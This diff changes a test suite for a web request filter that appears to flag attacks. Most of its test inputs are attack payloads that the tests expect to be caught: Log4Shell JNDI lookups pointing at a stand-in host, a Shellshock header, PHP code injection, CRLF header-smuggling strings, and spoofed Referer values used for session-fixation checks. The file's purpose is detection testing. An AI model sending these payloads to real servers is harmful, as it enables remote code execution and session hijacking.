@@ -98,10 +98,8 @@ describe("attacks are found", () => {
     ["attack-rce", { target: "/", headers: { "User-Agent": ";env" } }],
     ["attack-injection-java", { target: "/", headers: { "X-Class": "java.lang.Runtime" } }],
     ["attack-injection-php", { target: "/", headers: { "X-Forwarded-For": "<?=phpinfo()?>" } }],
-    [
-      "attack-fixation",
-      { target: "/login?phpsessid=abc", headers: { Referer: "https://x.example/" } },
-    ],
+    ["attack-protocol", { target: "/?a=x%0d%0aLocation:%20https://x.example/" }],
+    ["attack-protocol", { form: { a: "x\r\nLocation: /\r\nSet-Cookie: a=b" } }],
     ["attack-rce", { target: "/", headers: { "User-Agent": "() { :; }; echo x" } }],
     ["attack-rce", { target: "/", headers: { "User-Agent": "${jndi:ldap://x.example/a}" } }],
     ["attack-rce", { target: "/", headers: { "X-Api-Version": "${jndi:rmi://x.example/a}" } }],
@@ -142,9 +140,34 @@ describe("attacks are found", () => {
 });
 
 describe("ordinary requests pass", () => {
-  test("with a session in a link of the site itself", () => {
-    const headers = { Referer: "https://example.org/a?b=1" };
-    expect(found({ target: "/login?jsessionid=abc", headers }).ids).toEqual([]);
+  const session = (referer: string, host: string): ReturnType<typeof found> =>
+    found({ target: "/login?jsessionid=abc", headers: { Referer: referer, Host: host } });
+
+  test.each([
+    ["https://example.org/a?b=1", "example.org"],
+    ["https://example.org", "example.org"],
+    ["https://example.org/", "Example.ORG"],
+    ["https://Pay.example.org/", "example.org"],
+    ["http://example.org:8080/", "example.org:8080"],
+    ["http://[::1]:8080/", "[::1]:8080"],
+    ["https://example.org?next=/", "example.org"],
+  ])("with a session in a link of the site itself: %s to %s", (referer, host) => {
+    expect(session(referer, host).ids).toEqual([]);
+  });
+
+  test.each([
+    ["https://evilexample.org/", "example.org"],
+    ["https://x.example/", "example.org"],
+    ["https://example.org@x.example/", "example.org"],
+    ["https://example.org.x.example/", "example.org"],
+    ["https://x.example#example.org", "example.org"],
+    ["https://pay.example/", "shop.example"],
+  ])("though with a warning, with a session in a link of another site: %s to %s", (from, host) => {
+    const { ids, score, tags } = session(from, host);
+    expect(ids).toEqual([5_001_010]);
+    expect(tags).toContain("attack-fixation");
+    expect(score).toBe(3);
+    expect(score).toBeLessThan(THRESHOLD);
   });
 
   test.each(ordinary.map((value) => [value] as const))("%j", (value) => {
